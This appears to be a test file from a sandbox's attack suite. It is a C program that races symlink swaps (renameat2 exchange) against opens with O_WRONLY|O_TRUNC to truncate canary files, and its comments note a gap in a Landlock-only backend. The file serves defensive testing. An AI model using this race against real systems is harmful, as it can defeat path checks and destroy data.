// attack: race: a thread swaps symlinks (a directory link, and a final-component link) between decoy and canary while opening through them with O_WRONLY|O_TRUNC
// stopped by: sign-off(truncate)
// known gap: landlock: nothing is pinned in the Landlock-only backend, so a path swapped after the notifier read it reaches the file (README, Not done yet)
// Two shapes: open("race-l/NAME") where race-l flips between a decoy directory and the canary directory,
// and open("race-f") where race-f itself flips between a decoy file and a canary file (the kernel
// follows a final symlink on open, unlike unlink).
#define _GNU_SOURCE
#include "attack.h"
#include <pthread.h>
#include <stdatomic.h>

static atomic_int stop;
static void *flipper(void *arg) {
    (void)arg;
    while (!atomic_load(&stop)) {
        syscall(SYS_renameat2, AT_FDCWD, "race-l", AT_FDCWD, "race-l2", RENAME_EXCHANGE);
        syscall(SYS_renameat2, AT_FDCWD, "race-f", AT_FDCWD, "race-f2", RENAME_EXCHANGE);
    }
    return NULL;
}

static long sizeof_file(const char *p) { struct stat st; return stat(p, &st) == 0 ? (long)st.st_size : -1; }

int main(void) {
    const char *canary = getenv("CANARY");
    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
    char files[2][256], ca[4096], cb[4096], la[300], decoy[300];
    if (canary_files(canary, files, 2) < 2) { fprintf(stderr, "fewer than 2 canary files\n"); return 2; }
    snprintf(ca, sizeof ca, "%s/%s", canary, files[0]);
    snprintf(cb, sizeof cb, "%s/%s", canary, files[1]);
    snprintf(la, sizeof la, "race-l/%s", files[0]);
    snprintf(decoy, sizeof decoy, "race-decoy/%s", files[0]);
    mkdir("race-decoy", 0755);
    close(open(decoy, O_WRONLY | O_CREAT, 0644));
    close(open("race-decoy-file", O_WRONLY | O_CREAT, 0644));
    unlink("race-l"); unlink("race-l2"); unlink("race-f"); unlink("race-f2");
    printf("symlinks: race-l -> race-decoy %d, race-l2 -> canary %d, race-f -> race-decoy-file %d, race-f2 -> %s %d\n",
           symlink("race-decoy", "race-l"), symlink(canary, "race-l2"), symlink("race-decoy-file", "race-f"), cb,
           symlink(cb, "race-f2"));
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    long tries = 0, ok = 0, counts[256] = {0};
    double deadline = now() + 4.0;
    while (now() < deadline && (sizeof_file(ca) > 0 || sizeof_file(cb) > 0)) {
        const char *p = tries % 2 ? "race-f" : la;
        int fd = open(p, O_WRONLY | O_TRUNC);
        tries++;
        if (fd >= 0) { ok++; write(fd, "", 0); close(fd); } else counts[errno & 255]++;
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("open(O_WRONLY|O_TRUNC) through flipping symlinks: %ld tries, %ld opened\n", tries, ok);
    for (int e = 0; e < 256; e++) if (counts[e]) printf("  errno %d (%s): %ld\n", e, strerror(e), counts[e]);
    printf("%s: %ld bytes\n%s: %ld bytes\n", ca, sizeof_file(ca), cb, sizeof_file(cb));
    return 0;
}
